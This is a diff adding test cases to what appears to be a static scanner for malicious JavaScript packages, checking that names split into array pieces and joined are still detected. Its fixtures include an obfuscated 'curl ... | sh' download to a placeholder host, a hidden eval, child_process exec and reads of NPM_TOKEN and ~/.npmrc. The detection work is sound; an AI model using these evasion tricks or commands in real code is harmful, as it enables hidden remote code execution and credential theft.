@@ -234,6 +234,41 @@ describe('when code hides its tokens from the prefilter', () => {
     [q('~/.npmrc')],
     [q('~/.np'), p('+'), q('mrc')],
     [n('exec'), p('('), q('cu'), p('+'), q('rl https://x.invalid/a | s'), p('+'), q('h'), p(')')],
+    [
+      n('exec'),
+      p('('),
+      p('['),
+      q('cu'),
+      p(','),
+      q('rl https://x.invalid/a | s'),
+      p(','),
+      q('h'),
+      p(']'),
+      p('.'),
+      n('join'),
+      p('('),
+      q(''),
+      p(')'),
+      p(')'),
+    ],
+    [
+      n('window'),
+      p('['),
+      p('['),
+      q('ev'),
+      p(','),
+      q('al'),
+      p(']'),
+      p('.'),
+      n('join'),
+      p('('),
+      q(''),
+      p(')'),
+      p(']'),
+      p('('),
+      n('c'),
+      p(')'),
+    ],
     [k('const'), n('e'), p('='), n('eval'), p(';'), n('e'), p('('), n('c'), p(')')],
     [p('['), p(']'), p('.'), n('constructor'), p('.'), n('constructor'), p('('), n('c'), p(')')],
     [n('eval'), p('.'), n('call'), p('('), k('null'), p(','), n('c'), p(')')],
@@ -392,6 +427,38 @@ describe('when a name is cut into pieces joined with +', () => {
     const long = `require(${Array.from('child_process'.repeat(3), (c) => `'${c}'`).join(' + ')});`;
     expectFromBothWalks(partly, ['1 code.dynamic-require require(non-constant)']);
     expectFromBothWalks(long, ['1 code.dynamic-require require(non-constant)']);
+  });
+});
+
+describe('when a name is an array of pieces joined', () => {
+  it('joins constant strings with a constant separator in both walks', () => {
+    const source = [
+      "require(['child', 'process'].join('_')).exec('id');",
+      "window[['ev', 'al'].join('')](c);",
+      "process[['e', 'n', 'v'].join(``)].NPM_TOKEN;",
+      "exec(['cu', 'rl https://x.invalid/a | s', 'h'].join(''));",
+    ].join('\n');
+    expectFromBothWalks(source, [
+      '1 process.spawn child_process.exec: id',
+      '2 code.eval window.eval',
+      '3 environment.token NPM_TOKEN',
+      '4 process.shell-command download piped to a shell',
+    ]);
+  });
+
+  it('leaves arrays with a piece, a separator or a hole that is not constant unjoined', () => {
+    const source = [
+      "require(['child', name].join('_')).exec('id');",
+      "require(['child', 'process'].join(separator)).exec('id');",
+      "require(['child_process',,].join('')).exec('id');",
+      // constant, but the default separator is a comma: 'child,process', no module's name, nothing
+      "require(['child', 'process'].join()).exec('id');",
+      "require(['child_process'].concat('').join('')).exec('id');",
+    ].join('\n');
+    expectFromBothWalks(
+      source,
+      [1, 2, 3, 5].map((line) => `${line} code.dynamic-require require(non-constant)`),
+    );
   });
 });
 
